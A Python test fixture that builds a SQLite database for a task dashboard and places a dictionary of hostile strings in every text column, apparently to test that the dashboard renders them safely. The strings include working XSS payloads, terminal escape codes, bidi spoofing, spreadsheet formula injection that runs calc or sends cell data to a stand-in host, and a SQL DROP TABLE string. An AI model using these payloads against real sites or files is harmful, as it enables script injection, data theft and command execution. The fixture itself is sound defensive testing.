"""Text that wants to be something else, and a database that has it wherever text can stand."""

import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta

from stories import lively

from dashkit.times import to_text

# Were it run: the page's title, the console and the net would show it, and a dialog would keep the browser waiting.
SEEN = "document.title='PWNED';console.log('PWNED');new Image().src='http://pwned.invalid/run'"
RUN = f"{SEEN};alert(1)"
NET = "http://pwned.invalid"
T = "CAST(? AS TEXT)"  # text, also where it is no UTF-8
SAMPLE = {  # the ten that the gate looks at
    "img": f'<img src="{NET}/img" onerror="{RUN}"><img src=x onerror="{RUN}">',
    "script": f"</title></style></textarea><script>{RUN}</script><script src={NET}/s.js></script>",
    "attribute": f"\"><svg onload=\"{RUN}\"><a href='javascript:{RUN}'>x</a>' autofocus onfocus='{RUN}' x=\"",
    "markdown": f"[x](javascript:alert(1)) ![x]({NET}/md.png) <{NET}/auto> # *b* `c`\n\n| a |\n|---|\n\n<b>x</b>",
    "mathematics": rf"cost $5 and $\frac$ $\href{{javascript:{RUN}}}{{x}}$ \[\url{{{NET}}}\]",
    "terminal": f"\x1b[31mred\x1b[2J \x1b]8;;{NET}\x07link\x1b]8;;\x07 \x1b]52;c;AAAA\x07 \x9b31m \x08 NUL \x00 end",
    "bidi": "\u202egnp.exe \u2066x\u2069 \u202dabc\u202c \u061c\u200e\u200f שלום (1) مرحبا 2",
    "formula": '=HYPERLINK("http://pwned.invalid/"&A1,"x")',
    "word": "x" * 3000 + "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 40 + "👩‍👩‍👧‍👦🧨漢字ﷺ",
    "lines": "one\r\ntwo\rthree\u2028four\u2029five\x85six\n\n\n{{ 7*7 }} {% raw %} %s %d {0} ! 'a' \"b\" `c` \\",
}
PAYLOADS = SAMPLE | {
    "iframe": f'<iframe src="{NET}/f"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{NET}/o"></object><embed src="{NET}/e"><applet code=x></applet>',
    "media": f'<video src="{NET}/v" autoplay onerror="{RUN}"></video><audio src={NET}/a><track src={NET}/t>',
    "link": f'<link rel=stylesheet href="{NET}/c.css"><link rel=prefetch href={NET}/p><link rel=preconnect href={NET}>',
    "base": f'<base href="{NET}/"><meta http-equiv=refresh content="0;url={NET}/r">',
    "style": f"<style>@import '{NET}/i.css'; * {{ display: none; background: url({NET}/b) }}</style>",
    "styled": f'<p style="position:fixed;inset:0;background:url({NET}/p)" class="verdict bad" id="x">Verified</p>',
    "form": f'<form action="{NET}/f"><input type=image src={NET}/i>'
    f'<button formaction="javascript:{RUN}">x</button></form>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details><marquee onstart="{RUN}">x</marquee>',
    "link text": f'<a href="{NET}/a" ping="{NET}/ping">x</a><a href="data:text/html,<script>{RUN}</script>">y</a>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "template": f'<template><script>{RUN}</script></template><noscript><p title="</noscript>'
    f"<img src=x onerror='{RUN}'>\">",
    "comment": f"--><!-- <![CDATA[ ]]> <?xml-stylesheet href='{NET}/x'?> <script>{RUN}</script> ]]></svg></text>",
    "entity": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{NET}/e">]> &a; &lt;script&gt;{RUN}&lt;/script&gt; &#x3C;script&#x3E;',
    "vector": f'<svg><script>{RUN}</script><image href="{NET}/s"/><use href="{NET}/u#x"/><foreignObject><p>x',
    "half": f"<img src=x onerror={RUN} <scr\x00ipt>{RUN}</scr\x00ipt> <table><tr><td></table></div></main>"
    "</body></html>",
    "radio": '<input type="radio" name="links-0123abcd" checked><label>x</label><input name=x>',
    "charset": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \xbcscript\xbe \uff1cscript\uff1e",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": '@SUM(1+9)*cmd|" /C calc"!A0',
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "full width": "\uff1d1+1",
    "quoted": '";=1+1;"\n=1+1,=2+2',
    "sql": "'; DROP TABLE tasks; --",
    "blank": " \t\n\u00a0\u200b\ufeff ",
    "missing": "<NA>",
    "number": "1e999",
    "day": "2026-01-31 12:00:00+00:00",
    "surrogate": b"a \xed\xa0\x80 \xed\xb2\x80 b",
    "no utf-8": b"caf\xe9 \xff\xfe \xf4\x90\x80\x80 <script>alert(1)</script>",
    "no character": "\ufffe\uffff\ue000\U000e0041\U000fffff\ufff9\u00ad x",
    "dollar": "$" * 31,
    "huge": "word " * 20_000,
}  # fmt: skip


def hostile(path, payloads, now=None):
    """A database in which much happened, with these texts wherever text can stand.

    Args:
        path: where.
        payloads: the texts; each place has the next one.
        now: the day of the last things that happened; None is today.
    """
    lively(path)
    texts = [text.decode("latin-1") if isinstance(text, bytes) else text for text in payloads]
    raw = list(payloads)
    now = now or datetime.now(UTC)
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("PRAGMA ignore_check_constraints = 1")

        def say(table, column, key="rowid", where="1"):
            for place, (number,) in enumerate(conn.execute(f"SELECT {key} FROM {table} WHERE {where}").fetchall()):
                sql = f"UPDATE {table} SET {column} = CAST(? AS TEXT) WHERE {key} = ?"
                conn.execute(sql, (raw[place % len(raw)], number))

        conn.execute("UPDATE event_context SET suspended = 1")
        for number in (1, 2, 3):
            conn.execute("INSERT OR REPLACE INTO projects (id, name) VALUES (?, 'p')", (number,))
            conn.execute("INSERT INTO phases (id, project_id, name, position) VALUES (?, ?, 'p', 1)", (number, number))
        for table, key in (("tasks", "id"), ("task_events", "task_id")):
            conn.execute(f"UPDATE {table} SET project_id = 1 + {key} % 3")
            conn.execute(f"UPDATE {table} SET blocked_reason = 'x' WHERE status = 'blocked'")
            say(table, "blocked_reason", where="status = 'blocked'")
            say(table, "title")
        conn.execute("UPDATE tasks SET phase_id = project_id")
        for column in ("description", "external_id", "priority", "kind"):
            say("tasks", column)
        conn.execute("UPDATE event_context SET suspended = 0")
        for place, text in enumerate(raw * 2):
            blocked = ("blocked", text, place % 3 + 1) if place % 2 else ("in_progress", "", place % 3 + 1)
            labels = json.dumps([texts[place % len(texts)], "a"])
            columns = "title, status, blocked_reason, project_id, labels"
            conn.execute(f"INSERT INTO tasks ({columns}) VALUES ({T}, ?, {T}, ?, ?)", (text, *blocked, labels))
        conn.execute("UPDATE tasks SET status = CAST(? AS TEXT) WHERE id = (SELECT max(id) FROM tasks)", (raw[0],))
        conn.executemany(
            "INSERT INTO task_dependencies SELECT id, id - 3 FROM tasks WHERE id = (SELECT max(id) FROM tasks) - ?",
            [(number,) for number in range(min(4, len(raw)))],
        )
        for column in ("name", "description"):
            say("projects", column)
        say("phases", "name")
        for column in ("message", "author", "author_email"):
            say("git_commits", column)
        for column in ("name", "path", "remote_url", "default_branch"):
            say("git_repos", column)
        for column in ("evidence", "link_type"):
            say("task_commit_links", column)
        for place, text in enumerate(raw[:40]):
            when = to_text(now - timedelta(hours=place + 2))
            columns = "id, project_id, summary, started_at, tool"
            values = (f"s{place}", place % 3 + 1, text, when, text)
            conn.execute(f"INSERT INTO llm_sessions ({columns}) VALUES (?, ?, {T}, ?, {T})", values)
            columns = "id, task_id, session_id, confidence, link_type, evidence"
            values = (f"s{place}", place + 1, f"s{place}", text, text)
            conn.execute(f"INSERT INTO task_session_links ({columns}) VALUES (?, ?, ?, 0.8, {T}, {T})", values)
        said = {"project_id": 1, "text": texts[0], "left_out_by": {text[:300]: 2 for text in texts}}
        for kind in ("ingest tasks", "link", texts[0]):
            conn.execute(
                "INSERT INTO runs (id, kind, started_at, finished_at, outcome, details) VALUES (?, ?, ?, ?, ?, ?)",
                (kind, kind, to_text(now - timedelta(hours=1)), to_text(now), "done", json.dumps(said)),
            )
        for place, text in enumerate(raw):
            columns = "task_id, source, heading_path, title_norm, image"
            values = (place + 1, *[text] * 4)
            conn.execute(f"INSERT INTO task_sources ({columns}) VALUES (?, {T}, {T}, {T}, {T})", values)
    return path


def harmless(payloads):
    """As many texts that want nothing."""
    return [f"Harmless text number {place}" for place, _ in enumerate(payloads)]
